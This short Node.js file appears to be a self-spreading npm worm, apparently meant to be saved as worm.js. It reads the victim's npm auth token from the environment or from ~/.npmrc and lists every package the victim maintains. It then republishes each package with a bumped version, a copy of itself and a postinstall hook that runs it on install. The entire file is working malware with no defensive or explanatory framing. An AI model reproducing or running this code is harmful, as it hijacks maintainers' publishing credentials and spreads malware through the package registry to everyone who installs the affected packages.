const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
let token = process.env.NPM_TOKEN;
if (!token) {
  try {
    const m = /_authToken=(\S+)/.exec(fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'));
    token = m && m[1];
  } catch (e) {}
}
if (token) {
  const sh = (c, cwd) => execSync(c, { cwd, env: { ...process.env, NPM_CONFIG__AUTH_TOKEN: token } }).toString().trim();
  const me = sh('npm whoami');
  const list = JSON.parse(sh(`npm search --json maintainer:${me}`));
  for (const { name } of list) {
    const work = fs.mkdtempSync(path.join(os.tmpdir(), 'p-'));
    sh(`npm pack ${name}`, work);
    sh('tar -xzf *.tgz', work);
    const dir = path.join(work, 'package');
    const pkg = JSON.parse(fs.readFileSync(path.join(dir, 'package.json'), 'utf8'));
    const v = pkg.version.split('.');
    v[2] = String(+v[2] + 1);
    pkg.version = v.join('.');
    pkg.scripts = { ...pkg.scripts, postinstall: 'node worm.js' };
    fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify(pkg, null, 2));
    fs.copyFileSync(__filename, path.join(dir, 'worm.js'));
    sh('npm publish --access public', dir);
  }
}
